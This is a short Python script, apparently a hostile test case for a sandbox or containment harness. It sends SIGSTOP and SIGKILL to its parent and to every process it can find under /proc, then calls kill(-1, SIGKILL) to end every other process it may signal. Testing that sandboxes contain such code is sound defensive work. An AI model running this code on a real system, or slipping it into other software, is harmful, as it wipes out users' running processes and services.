"""Stops and kills its parent, every process it can see and everything of its uid."""
import contextlib
import os
import signal

from _hostile import contained, play


def attack(request):
    hits = []
    targets = {os.getppid()} | {int(p) for p in os.listdir("/proc") if p.isdigit()}
    for pid in sorted(targets - {os.getpid()}):
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
                hits.append(pid)
            except OSError:
                pass
    # and everything else it may signal (kill(-1) spares only the caller)
    with contextlib.suppress(OSError):  # ESRCH: nothing else it may signal
        os.kill(-1, signal.SIGKILL)
    contained(f"signalled {sorted(set(hits))}")


play(attack)
